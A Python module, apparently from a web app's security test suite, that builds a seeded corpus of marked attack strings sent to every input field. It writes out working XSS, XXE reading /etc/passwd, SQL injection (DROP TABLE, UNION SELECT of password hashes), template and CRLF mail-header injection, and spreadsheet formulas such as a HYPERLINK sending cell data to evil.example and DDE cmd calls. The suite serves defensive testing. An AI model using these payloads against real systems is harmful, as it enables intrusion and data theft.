"""The hostile-string corpus: what an outside attack sent to every field (about 11,000 inputs,
no 5xx, nothing unescaped), kept here so the suite sends it on every run.

Every payload carries its own marker (`zqATK` + a number), letters and digits only, so it
survives every normalization the app does and can be found again in a page, an export, a feed
or an e-mail — and a page that shows the marker inside markup the payload made is caught by
tests/attack/checks.py.

Strings are Python text (sent as UTF-8); `RAW` holds byte sequences that are not UTF-8 at all
(lone surrogates, overlong forms), which only a raw request body or URL can carry.

A run sends a seeded sample (`sample()`): ATTACK_SEED picks the seed (default: today's date
as YYYYMMDD, so a day's CI runs agree and each day covers other payloads; the seed is in the
test header and in every failure message), ATTACK_FULL=1 sends the whole corpus.
"""
from __future__ import annotations

import os
import random
from dataclasses import dataclass
from datetime import UTC, datetime

MARK = "zqATK"
FIRST = ("xss", "formula")


@dataclass(frozen=True)
class Payload:
    marker: str
    kind: str  # the class of attack: xss, entity, sql, template, crlf, control, unicode, korean, formula, long
    text: str

    def __str__(self) -> str:  # pytest ids and failure messages: short, printable
        return f"{self.marker}:{self.kind}"


# {m} is the marker. Grouped by class; each line is one attack, the context it targets in the comment.
TEMPLATES: dict[str, list[str]] = {
    "xss": [
        "<script>alert('{m}')</script>",                                   # element body
        "<img src=x onerror=alert('{m}')>",                                # event handler
        "\"><svg onload=alert('{m}')>",                                    # out of a double-quoted attribute
        "'><svg/onload=alert('{m}')>",                                     # out of a single-quoted attribute
        "x onmouseover=alert('{m}') autofocus onfocus=alert('{m}') x=",   # unquoted attribute
        "javascript:alert('{m}')",                                         # a URL attribute (href, src, action)
        " JaVaScRiPt:alert('{m}')",                                        # the same, as browsers forgive it
        "data:text/html,<script>alert('{m}')</script>",                    # data: URL
        "</script><script>alert('{m}')</script>",                          # inside a <script> block
        "';alert('{m}');//",                                               # inside a JS string, single quotes
        "\";alert('{m}');//",                                              # inside a JS string, double quotes
        "</style><style>*{{background:url(\"javascript:alert('{m}')\")}}</style>",  # inside <style>
        "x{{}}*{{color:expression(alert('{m}'))}}",                        # CSS expression
        "</textarea><script>alert('{m}')</script>",                        # out of a textarea
        "</title><script>alert('{m}')</script>",                           # out of <title>
        "<svg><script>alert('{m}')</script></svg>",                        # SVG script
        "<svg><a xlink:href=\"javascript:alert('{m}')\"><text x=\"0\">x</text></a></svg>",  # SVG link
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",  # MathML namespace confusion
        "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",  # mutation XSS
        "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",      # iframe srcdoc
        "<a href=\"javascript:alert('{m}')\">click</a>",                  # link
        "[click](javascript:alert('{m}'))",                                # Markdown link
        "![x](x\" onerror=\"alert('{m}'))",                                # Markdown image breaking out
        "<details open ontoggle=alert('{m}')>",                            # handler without user action
        "<!--{m}--><script>alert(1)</script><!--",                         # comment
        "<base href=\"//evil.example/{m}/\">",                             # base URL
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",  # refresh
        "<form action=javascript:alert('{m}')><button>x</button></form>",  # form action
        "<![CDATA[<script>alert('{m}')</script>]]>",                       # CDATA (Atom feed)
        "]]><script>alert('{m}')</script><![CDATA[",                       # out of a CDATA section
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;{m}</x>",  # XXE
        "<object data=\"javascript:alert('{m}')\"></object>",
        "<input autofocus onfocus=alert('{m}')>",
    ],
    "entity": [
        "&lt;script&gt;alert('{m}')&lt;/script&gt;",                       # must stay text, not turn into a tag
        "&#60;img src=x onerror=alert('{m}')&#62;",
        "&#x3C;svg onload=alert('{m}')&#x3E;",
        "&amp;lt;{m}&amp;gt; &quot;{m}&quot; &#0; &#xD800; &#x110000;",
        "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",           # JS escapes as text
        "%3Cscript%3Ealert('{m}')%3C%2Fscript%3E",                         # URL-encoded markup as text
    ],
    "sql": [
        "' OR '1'='1' -- {m}",
        "\"; DROP TABLE submission; -- {m}",
        "' UNION SELECT password_hash, email FROM user_account -- {m}",
        "1; DELETE FROM audit_event; -- {m}",
        "{m}' || (SELECT version()) || '",
        "/*{m}*/ OR 1=1 /*",
        "\\'; {m} \\\\",
        "%{m}%",                                                           # LIKE wildcards in search
        "_{m}_%_",
        "%%%%' {m}",
        "{m}\\%\\_",
        "'; SELECT pg_sleep(0); -- {m}",
    ],
    "template": [
        "{{{{7*7}}}}{m}",
        "{{{{ config }}}}{m}",
        "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{m}",
        "{{% for x in range(3) %}}{m}{{% endfor %}}",
        "${{7*7}}{m}",
        "#{{7*7}}{m}",
        "<%= 7*7 %>{m}",
        "%(org)s %s %d {{0}} {m}",                                         # Python %- and str.format() placeholders
        "{m}{{{{ _('x') }}}}{{{{ url_for('static', filename='x') }}}}",
    ],
    "crlf": [
        "{m}\r\nBcc: victim@example.org\r\nX-Injected: {m}",               # header injection (mail)
        "{m}\nSubject: injected {m}",
        "{m}\r\n\r\n<script>alert('{m}')</script>",                        # body after headers
        "%0d%0aSet-Cookie:{m}=1",                                          # encoded CRLF as text
        "{m}\u2028line\u2029para\u0085next",                               # Unicode line separators
        "{m}\r",
    ],
    "control": [
        "{m}\x00after NUL",
        "\x00\x00{m}\x00",
        "{m}\x1b[31mred\x07\x08\x7f",
        "{m}\x0b\x0c\x1f end",
        "\t{m}\ttabbed\t",
    ],
    "unicode": [
        "\u202e{m}gpj.exe",                                                # right-to-left override
        "\u200b{m}\u200d\u200c\u2060",                                     # zero-width
        "\ufeff{m}\ufeff",                                                 # BOM
        "\u2066{m}\u2069\u2067x\u2069",                                    # isolates
        "{m}e\u0301 a\u030a",                                              # combining marks (NFC joins them)
        "{m}" + "\u0300" * 60,                                             # stacked combining marks
        "\u1100\u1161\u11a8{m}",                                           # decomposed Hangul jamo (NFC: 각)
        "＜script＞alert('{m}')＜/script＞",                               # full-width (must not become ASCII)
        "\uff1cimg src=x onerror=alert('{m}')\uff1e",
        "{m}\U0001F600\U0001F1F0\U0001F1F7 \U000E0041",                    # astral plane, tags
        "{m}\ufdd0\uffff\ufffe",                                           # non-characters
    ],
    "korean": [
        "고문을 <b>{m}</b> 당했습니다 '; DROP TABLE submission; --",
        "보위부 ${{7*7}} {{{{7*7}}}} {m} 구류장",
        "{m} 회령 \"강가\" <script>alert('제보')</script>",
        "１２３４ {m} ＡＢＣ 가나다",                                     # full-width digits and letters
        "{m} 평양\r\nBcc: x@example.org",
    ],
    "formula": [  # CSV/spreadsheet formula injection: a cell starting with = + - @
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"{m}\")",
        "+cmd|' /C calc'!A0 {m}",
        "-2+3+cmd|' /C calc'!A0 {m}",
        "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
        "=DDE(\"cmd\";\"/C calc\";\"{m}\")",
        "=1+1 {m} 고문",
    ],
    "long": [
        "{m}" + "A" * 1_000_000,                                           # 1 MB
        "{m}" + "가" * 350_000,                                            # 1 MB of Hangul in UTF-8
        "{m}" + "<b>" * 5000,                                              # many tags
    ],
}


def _build() -> list[Payload]:
    payloads, number = [], 0
    for kind, templates in TEMPLATES.items():
        for template in templates:
            marker = f"{MARK}{number:03d}"
            payloads.append(Payload(marker, kind, template.format(m=marker)))
            number += 1
    return payloads


CORPUS: list[Payload] = _build()

# Not UTF-8: a lone surrogate half (CESU-8), overlong encodings of "/" and "<", a code point
# above U+10FFFF, stray continuation and truncated sequences. The app reads them as U+FFFD.
RAW: list[bytes] = [
    b"\xed\xa0\x80",          # U+D800 as if it were a character
    b"\xed\xbf\xbf",          # U+DFFF
    b"\xc0\xaf",              # overlong "/"
    b"\xc0\xbc",              # overlong "<"
    b"\xe0\x80\xaf",          # overlong "/", three bytes
    b"\xf8\x88\x80\x80\x80",  # five-byte form
    b"\xf4\x90\x80\x80",      # above U+10FFFF
    b"\x80\xbf",              # continuation bytes alone
    b"\xe3\x81",              # truncated
    b"\xff\xfe",
]
RAW_PERCENT = ["".join(f"%{byte:02X}" for byte in part) for part in RAW]  # "%ED%A0%80", for URLs

# Payloads that only make sense as a whole value (a 1 MB query string is a different test).
SHORT = [payload for payload in CORPUS if payload.kind != "long"]


def sample_raw(count: int, salt: str = "") -> list[str]:
    """`count` of RAW_PERCENT (all under ATTACK_FULL), chosen by the run's seed."""
    if full() or count >= len(RAW_PERCENT):
        return list(RAW_PERCENT)
    return random.Random(f"{seed()}:{salt}").sample(RAW_PERCENT, count)


def seed() -> int:
    value = os.environ.get("ATTACK_SEED")
    return int(value) if value else int(datetime.now(UTC).strftime("%Y%m%d"))


def full() -> bool:
    return os.environ.get("ATTACK_FULL", "") not in ("", "0")


def sample(count: int, pool: list[Payload] | None = None, salt: str = "") -> list[Payload]:
    """`count` payloads of `pool` (all of it under ATTACK_FULL), chosen by the run's seed and
    spread over the classes (no class twice before every class once; FIRST first). `salt` (the test's
    name) makes tests choose differently from one another, so together they cover every
    class on every run, while staying reproducible from the seed."""
    pool = CORPUS if pool is None else pool
    if full() or count >= len(pool):
        return list(pool)
    chooser = random.Random(f"{seed()}:{salt}")
    by_kind: dict[str, list[Payload]] = {}
    for payload in pool:
        by_kind.setdefault(payload.kind, []).append(payload)
    for members in by_kind.values():
        chooser.shuffle(members)
    kinds = sorted(by_kind)
    chooser.shuffle(kinds)
    # Markup and formulas lead, so even a small sample checks escaping and CSV defusing.
    kinds.sort(key=lambda kind: kind not in FIRST)
    chosen: list[Payload] = []
    while len(chosen) < count:
        for kind in kinds:
            if by_kind[kind] and len(chosen) < count:
                chosen.append(by_kind[kind].pop())
    return chosen
